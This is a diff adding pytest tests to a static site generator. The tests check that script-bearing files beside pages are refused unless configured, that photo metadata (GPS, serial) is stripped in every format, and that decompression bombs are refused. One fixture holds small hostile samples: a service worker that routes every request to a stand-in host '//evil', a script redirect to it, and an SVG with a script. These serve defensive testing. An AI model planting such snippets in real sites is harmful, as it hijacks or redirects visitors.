@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from helpers import build_site, page, parse_html
+from helpers import BASIC_CONFIG, build_site, page, parse_html
 from mmsite.errors import BuildErrors, MmsiteError
 
 
@@ -294,3 +294,240 @@ def test_ordinary_unicode_slugs_still_build(make_site) -> None:
     build_site(root)
     doc = parse_html(root / "public/مرحبا-été/index.html")
     assert doc.find(".//h1") is not None
+
+
+# -- files beside pages: passive kinds only, active ones when site.yaml lists them ------
+
+ACTIVE = {
+    "content/sw.js": "self.addEventListener('fetch', e => e.respondWith(fetch('//evil')))\n",
+    "content/products/embed.html": "<script>location='//evil'</script>\n",
+    "content/products/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>\n',
+    "content/feed.xml": "<x/>\n",
+    "content/products/LICENSE": "no extension\n",
+}
+PASSIVE = {
+    "content/products/manual.pdf": b"%PDF-1.4 manual",
+    "content/products/sizes.csv": "size,grams\nS,100\n",
+    "content/products/notes.txt": "notes\n",
+    "content/fonts/a.woff2": b"wOF2",
+    "content/media/clip.mp4": b"\x00\x00\x00\x18ftypmp42",
+    "content/media/song.mp3": b"ID3",
+    "content/downloads/recipes.zip": b"PK\x03\x04",
+    "content/products/anim.gif": b"GIF89a",
+}
+
+
+def test_active_files_beside_pages_are_errors_naming_the_file_and_the_option(make_site) -> None:
+    root = make_site({**HOME, **ACTIVE, **PASSIVE})
+    errors = build_fails(root)
+    assert sorted(str(e.path.relative_to(root)) for e in errors) == sorted(ACTIVE)
+    for error in errors:
+        assert "beside pages is not published" in error.message
+        rel = error.path.relative_to(root / "content").as_posix()
+        assert f"active_resources: [{rel}]" in error.hint
+    assert not (root / "public").exists()
+
+
+def test_passive_files_beside_pages_are_published_as_they_are(make_site) -> None:
+    root = make_site({**HOME, **PASSIVE})
+    build_site(root)
+    for rel, data in PASSIVE.items():
+        out = root / "public" / rel.removeprefix("content/")
+        expected = data if isinstance(data, bytes) else data.encode()
+        assert out.read_bytes() == expected
+
+
+def test_active_files_listed_in_site_yaml_are_published_and_check_names_them(make_site) -> None:
+    from mmsite.commands.cli import main
+
+    config = BASIC_CONFIG + "assets:\n  active_resources: [sw.js, 'products/*.html']\n"
+    files = {k: v for k, v in ACTIVE.items() if k.endswith((".js", ".html"))}
+    root = make_site({**HOME, **files, **PASSIVE}, config=config)
+    build_site(root)
+    assert (root / "public/sw.js").is_file() and (root / "public/products/embed.html").is_file()
+    findings = [f for f in check_findings(root) if f.check == "active"]
+    assert sorted(f.where for f in findings) == ["products/embed.html", "sw.js"]
+    assert all(f.level == "warning" and "active_resources" in f.message for f in findings)
+    assert main(["check", "--site", str(root), "--strict"]) == 1
+
+
+def check_findings(root: Path):
+    from mmsite.commands.checks import run_checks
+    from mmsite.engine.build import BuildOptions, load_site
+    from mmsite.errors import Reporter
+
+    site, _ = load_site(root, BuildOptions(), Reporter())
+    return run_checks(site, root / "public")
+
+
+@pytest.mark.parametrize(
+    ("value", "message"),
+    [
+        ("[nothere.js]", "'nothere.js' names no file below content/"),
+        ("sw.js", "must be a list of paths below content/"),
+        ("[/sw.js]", "must be a list of paths below content/"),
+    ],
+)
+def test_active_resources_option_mistakes(make_site, value: str, message: str) -> None:
+    config = BASIC_CONFIG + f"assets:\n  active_resources: {value}\n"
+    root = make_site({**HOME, "content/sw.js": "x"}, config=config)
+    (error,) = [e for e in build_fails(root) if e.path == root / "site.yaml"]
+    assert error.line == 9 and message in error.message
+
+
+def test_the_demo_site_publishes_no_active_file(demo_built: Path) -> None:
+    assert [f for f in check_findings(demo_built) if f.check == "active"] == []
+
+
+# -- phone photos: every format Pillow reads is processed, never published raw ----------
+
+SERIAL = "SN-4242-SECRET"
+PHOTO_FORMATS = {  # suffix -> Pillow format to write the test photo in
+    ".jpg": "JPEG",
+    ".jpeg": "JPEG",
+    ".jfif": "JPEG",
+    ".jpe": "JPEG",
+    ".JPG": "JPEG",
+    ".png": "PNG",
+    ".webp": "WEBP",
+    ".tif": "TIFF",
+    ".tiff": "TIFF",
+    ".heic": "HEIF",
+    ".heif": "HEIF",
+    ".avif": "AVIF",
+}
+
+
+def phone_photo(fmt: str, size: tuple[int, int] = (900, 600), mode: str = "RGB") -> bytes:
+    """A photo with GPS position, camera make and body serial in its EXIF."""
+    from PIL import ExifTags, Image
+
+    if fmt == "HEIF":
+        pillow_heif = pytest.importorskip("pillow_heif")
+        pillow_heif.register_heif_opener()
+    exif = Image.Exif()
+    exif[ExifTags.Base.Make] = "PhoneCo"
+    exif[ExifTags.IFD.GPSInfo] = {
+        ExifTags.GPS.GPSLatitudeRef: "N",
+        ExifTags.GPS.GPSLatitude: (50.0, 5.0, 30.0),
+    }
+    exif[ExifTags.IFD.Exif] = {ExifTags.Base.BodySerialNumber: SERIAL}
+    import io
+
+    out = io.BytesIO()
+    Image.new(mode, size, (200, 40, 40, 255)[: len(mode)]).save(out, fmt, exif=exif.tobytes())
+    data = out.getvalue()
+    assert SERIAL.encode() in data
+    return data
+
+
+def assert_every_image_is_clean(public: Path) -> int:
+    """Every published file Pillow can open has no EXIF, GPS or XMP; no file holds the
+    serial. Returns how many images were read."""
+    from PIL import ExifTags, Image, UnidentifiedImageError
+
+    count = 0
+    for path in public.rglob("*"):
+        if not path.is_file():
+            continue
+        assert SERIAL.encode() not in path.read_bytes(), path
+        try:
+            image = Image.open(path)
+        except UnidentifiedImageError:
+            continue
+        with image:
+            exif = image.getexif()
+            assert dict(exif) == {} and exif.get_ifd(ExifTags.IFD.GPSInfo) == {}, path
+            assert not {"exif", "xmp", "icc_profile", "comment"} & set(image.info), path
+            count += 1
+    return count
+
+
+@pytest.mark.parametrize("suffix", sorted(PHOTO_FORMATS))
+def test_phone_photos_are_processed_and_stripped_in_every_format(make_site, suffix) -> None:
+    photo = phone_photo(PHOTO_FORMATS[suffix])
+    root = make_site(
+        {
+            **HOME,
+            "content/products/salt.md": page("Salt", f"![A jar](photo{suffix})"),
+            f"content/products/photo{suffix}": photo,
+        }
+    )
+    result = build_site(root)
+    assert result.images == 1
+    public = root / "public"
+    assert assert_every_image_is_clean(public) >= 3  # the sizes, the plain copy, webp
+    names = {p.name for p in (public / "products").iterdir()}
+    converted = suffix.lower() in (".tif", ".tiff", ".heic", ".heif", ".avif")
+    plain = "photo.jpg" if converted else f"photo{suffix}"
+    assert plain in names and (not converted or f"photo{suffix}" not in names)
+    img = next(parse_html(public / "products/salt/index.html").iter("img"))
+    assert img.get("alt") == "A jar" and (public / img.get("src").lstrip("/")).is_file()
+
+
+def test_a_transparent_tiff_becomes_a_png(make_site) -> None:
+    root = make_site({**HOME, "content/logo.tiff": phone_photo("TIFF", (300, 200), "RGBA")})
+    build_site(root)
+    assert (root / "public/logo.png").is_file() and not (root / "public/logo.tiff").exists()
+    assert assert_every_image_is_clean(root / "public") >= 2
+
+
+def test_a_converted_photo_may_not_take_the_name_of_another(make_site) -> None:
+    root = make_site(
+        {
+            **HOME,
+            "content/photo.heic": phone_photo("HEIF"),
+            "content/photo.jpg": phone_photo("JPEG"),
+            "content/scan.tif": phone_photo("TIFF"),
+            "content/scan.avif": phone_photo("AVIF"),
+        }
+    )
+    errors = build_fails(root)
+    assert {e.path.name for e in errors} == {"photo.heic", "scan.tif"}
+    assert all("photo.jpg" in e.message or "scan." in e.message for e in errors)
+
+
+def test_heic_without_pillow_heif_is_refused_with_a_hint(make_site, monkeypatch) -> None:
+    import builtins
+
+    photo = phone_photo("HEIF")
+    real = builtins.__import__
+
+    def no_heif(name, *args, **kwargs):
+        if name == "pillow_heif":
+            raise ImportError(name)
+        return real(name, *args, **kwargs)
+
+    monkeypatch.setattr(builtins, "__import__", no_heif)
+    root = make_site({**HOME, "content/photo.heic": photo}, config=BASIC_CONFIG)
+    monkeypatch.setattr("mmsite.features.imagecache.os.cpu_count", lambda: 1)
+    (error,) = build_fails(root)
+    assert error.path == root / "content/photo.heic"
+    assert "pillow-heif" in error.message and "mmsite[heic]" in error.message
+    assert not (root / "public").exists()
+
+
+def test_a_very_large_photo_gets_our_warning_not_pillows(make_site, monkeypatch, recwarn):
+    from PIL import Image
+
+    root = make_site({**HOME, "content/big.png": phone_photo("PNG", (400, 300))})
+    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 100_000)  # 120,000 pixels: over it
+    monkeypatch.setattr("mmsite.features.imagecache.os.cpu_count", lambda: 1)
+    result = build_site(root)
+    assert [w for w in recwarn if issubclass(w.category, Image.DecompressionBombWarning)] == []
+    (warning,) = [w for w in result.warnings if "megapixel" in w]
+    assert warning.startswith(str(root / "content/big.png")) and "export it smaller" in warning
+    again = build_site(root)  # from the cache: the same warning
+    assert [w for w in again.warnings if "megapixel" in w] == [warning]
+
+
+def test_a_decompression_bomb_is_refused_in_our_words(make_site, monkeypatch) -> None:
+    from PIL import Image
+
+    root = make_site({**HOME, "content/bomb.png": phone_photo("PNG", (400, 300))})
+    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 50_000)  # over twice the limit
+    monkeypatch.setattr("mmsite.features.imagecache.os.cpu_count", lambda: 1)
+    (error,) = build_fails(root)
+    assert error.path == root / "content/bomb.png"
+    assert "image too large to process safely" in error.message
+    assert "DOS" not in error.message and "Image size" not in error.message
